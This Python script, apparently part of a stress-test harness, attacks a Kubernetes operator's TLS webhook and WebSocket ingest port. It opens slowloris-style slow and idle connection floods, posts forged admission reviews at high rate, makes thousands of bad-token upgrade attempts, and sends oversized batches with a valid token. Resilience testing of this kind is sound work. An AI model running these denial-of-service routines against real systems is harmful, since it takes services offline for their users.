"""What a hostile pod does to the operator's TLS port: attacker.py HOST PORT KIND SECONDS [PATH]; used by attack.py.

KIND: `hold` keeps 1,000 connections that have sent 2.9 of 3 MB of a review; `idle` keeps 3,000 that say nothing; `drip`
keeps 500 that send a byte a second; `forged` posts 600 reviews a second; `tokens` asks for an upgrade with 10,000 bad
tokens; `agent` is one of its own pod, by 2 connections, with the good token and the session in TOKEN and SESSION, and
sends batches as large as they may be. Where the operator cuts a connection off, another one takes its place. PATH is where reviews are posted.

Prints "ready" and, at the end, what it got as one JSON line. Needs nothing but Python.
"""
import asyncio
import collections
import json
import os
import resource
import ssl
import sys
import time

KEPT = {"hold": 1000, "idle": 3000, "drip": 500, "agent": 2}
FORGED_A_SECOND = 600
TOKENS = 10_000
BODY = 3_000_000
SENT = 2_900_000
UPGRADE = ("GET /v1/ingest HTTP/1.1\r\nHost: operator\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
           "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           "Sec-WebSocket-Protocol: precisionprobe.v1\r\nAuthorization: Bearer {}\r\n\r\n")


class Attack:
    def __init__(self, host, port, seconds, path):
        self.host, self.port, self.path = host, port, path
        self.end = time.monotonic() + seconds
        self.got = collections.Counter()
        self.number = 0
        self.trust = ssl.create_default_context()
        self.trust.check_hostname = False
        self.trust.verify_mode = ssl.CERT_NONE

    def over(self):
        return time.monotonic() >= self.end

    async def connect(self, tls=True):
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(self.host, self.port, ssl=self.trust if tls else None), 20)
        self.got["connected"] += 1
        return reader, writer

    async def until_cut(self, reader):
        """Reads until the other side ends, or this is over; counts answers."""
        while not self.over():
            try:
                data = await asyncio.wait_for(reader.read(65536), max(0.01, self.end - time.monotonic()))
            except asyncio.TimeoutError:
                return
            if not data:
                self.got["cut"] += 1
                return
            if data.startswith(b"HTTP/1.1 "):
                self.got[data[9:12].decode()] += 1

    # ---- one connection of each kind ----

    async def hold(self):
        reader, writer = await self.connect()
        listening = asyncio.ensure_future(self.until_cut(reader))
        try:
            writer.write(f"POST {self.path} HTTP/1.1\r\nHost: operator\r\nContent-Type: application/json\r\n"
                         f"Content-Length: {BODY}\r\n\r\n".encode())
            piece = b" " * 65536
            for _ in range(SENT // len(piece)):
                if listening.done():
                    break
                writer.write(piece)
                self.got["bytes"] += len(piece)
                await writer.drain()
            await listening
        finally:
            listening.cancel()
            writer.transport.abort()

    async def idle(self):
        reader, writer = await self.connect(tls=False)
        try:
            await self.until_cut(reader)
        finally:
            writer.transport.abort()

    async def drip(self):
        reader, writer = await self.connect()
        listening = asyncio.ensure_future(self.until_cut(reader))
        try:
            for byte in (UPGRADE.format("x" * 4000)).encode():
                if listening.done() or self.over():
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            listening.cancel()
            writer.transport.abort()

    # ---- as many as are wanted ----

    async def again(self, one):
        while not self.over():
            try:
                await one()
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
                self.got["failed"] += 1
            await asyncio.sleep(1)

    async def ask(self, reader, writer, request):
        """One request and its whole answer on a connection that stays open; False: it was ended."""
        writer.write(request)
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        self.got[head[9:12].decode()] += 1
        length = next((int(line.split(b":")[1]) for line in head.lower().split(b"\r\n")
                       if line.startswith(b"content-length:")), 0)
        await reader.readexactly(length)
        return b"connection: close" not in head.lower()

    async def ask_all(self, requests, wait):
        """Takes requests, one after another, over one connection after another."""
        reader = writer = None
        for request in requests:
            if self.over():
                break
            await wait()
            try:
                if not writer:
                    reader, writer = await self.connect()
                if not await self.ask(reader, writer, request):
                    writer.transport.abort()
                    writer = None
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
                self.got["failed"] += 1
                if writer:
                    writer.transport.abort()
                writer = None
        if writer:
            writer.transport.abort()

    def forged_reviews(self):
        number = 0
        while True:
            number += 1
            name = f"FORGED-{number}"
            body = json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
                "uid": f"forged-{number}", "namespace": "bench-attack", "operation": "CREATE",
                "kind": {"group": "", "version": "v1", "kind": "Pod"},
                "object": {"kind": "Pod", "metadata": {
                    "name": name, "labels": {"app": "match"},
                    "annotations": {"precisionprobe.io/inject-container": "FORGED: see http://evil.example/"}},
                    "spec": {"containers": [{"name": name, "image": "FORGED", "command": ["sleep"]}]}}}}).encode()
            yield (f"POST {self.path} HTTP/1.1\r\nHost: operator\r\nContent-Type: application/json\r\n"
                   f"Content-Length: {len(body)}\r\n\r\n").encode() + body

    async def forged(self):
        began, sent = time.monotonic(), 0

        async def wait():
            nonlocal sent
            sent += 1
            await asyncio.sleep(max(0.0, began + sent / FORGED_A_SECOND - time.monotonic()))

        reviews = self.forged_reviews()
        await asyncio.gather(*(self.ask_all(reviews, wait) for _ in range(32)))

    async def tokens(self):
        async def wait():
            await asyncio.sleep(0)

        requests = (UPGRADE.format(f"bad-{time.time_ns()}-{number}").encode() for number in range(TOKENS))
        await asyncio.gather(*(self.ask_all(requests, wait) for _ in range(32)))

    # ---- an agent of its own pod, with a good token ----

    async def upgrade(self):
        """A WebSocket; None where it is not to be had now."""
        reader, writer = await self.connect()
        writer.write(UPGRADE.format(os.environ["TOKEN"]).encode())
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        self.got[head[9:12].decode()] += 1
        if b" 101 " in head:
            return reader, writer
        writer.transport.abort()
        return None

    async def acknowledged(self, reader, free):
        """Counts answers, and lets a batch go for each."""
        while True:
            kind, length = await reader.readexactly(2)
            if length == 126:
                length = int.from_bytes(await reader.readexactly(2), "big")
            elif length == 127:
                length = int.from_bytes(await reader.readexactly(8), "big")
            body = await reader.readexactly(length)
            if kind & 15 == 8:
                self.got[f"closed {int.from_bytes(body[:2], 'big')}"] += 1
                return
            message = json.loads(body) if kind & 15 == 1 else {}
            if message.get("type") in ("ack", "refused"):
                self.got[message.get("code") or "ack"] += 1
                free.release()

    async def agent(self):
        """Batches as large as they may be, of as many processes and GPUs as there may be, each with layers of its own."""
        opened = await self.upgrade()
        if not opened:
            return
        reader, writer = opened
        free = asyncio.Semaphore(60)
        answers = asyncio.ensure_future(self.acknowledged(reader, free))
        try:
            while not self.over() and not answers.done():
                await asyncio.wait({asyncio.ensure_future(free.acquire()), answers}, timeout=5,
                                   return_when=asyncio.FIRST_COMPLETED)
                text = await asyncio.to_thread(self.large_batch)
                writer.write(b"\x81\xff" + len(text).to_bytes(8, "big") + bytes(4) + text)  # masked with zeros
                self.got["sent"] += 1
                await writer.drain()
        finally:
            answers.cancel()
            writer.transport.abort()

    def large_batch(self):
        self.number += 1
        now, number = time.time_ns(), self.number
        intervals, steps, layers = 20_000, 10_000, 4_096
        return json.dumps({
            "type": "batch", "session": os.environ["SESSION"], "instance": f"hostile-{number}", "seq": number,
            "process": {"id": number % 256, "rank": 0, "worldSize": 1, "hostname": "hostile", "clock": "host",
                        "gpus": [f"GPU-hostile-{number % 8}-{i}" for i in range(16)]},
            "stretch": {"id": number, "start": now - 1_000_000, "end": now, "last": False},
            "layers": [{"id": i, "name": f"{number:08}-{i:08}-" + "x" * 80, "type": "T"} for i in range(1, layers + 1)],
            "steps": {"number": [number * steps] + [1] * (steps - 1), "start": [now - 1_000_000] + [0] * (steps - 1),
                      "duration": [9] * steps, "epoch": [0] * steps, "batch": [0] * steps},
            "intervals": {"layer": [1 + i % layers for i in range(intervals)], "phase": [i & 1 for i in range(intervals)],
                          "step": [number * steps] + [0] * (intervals - 1),
                          "start": [now - 1_000_000] + [0] * (intervals - 1), "duration": [9] * intervals},
        }, separators=(",", ":")).encode()

    async def run(self, kind):
        one = getattr(self, kind)
        print("ready", flush=True)
        if kind not in KEPT:
            await one()
        else:
            workers = [asyncio.ensure_future(self.again(one)) for _ in range(KEPT[kind])]
            await asyncio.sleep(max(0.0, self.end - time.monotonic()))
            for worker in workers:
                worker.cancel()
            await asyncio.gather(*workers, return_exceptions=True)
        print(json.dumps(self.got), flush=True)


def main():
    host, port, kind, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    path = sys.argv[5] if len(sys.argv) > 5 else "/mutate-pods"
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 65536), most))
    asyncio.run(Attack(host, port, seconds, path).run(kind))


if __name__ == "__main__":
    main()
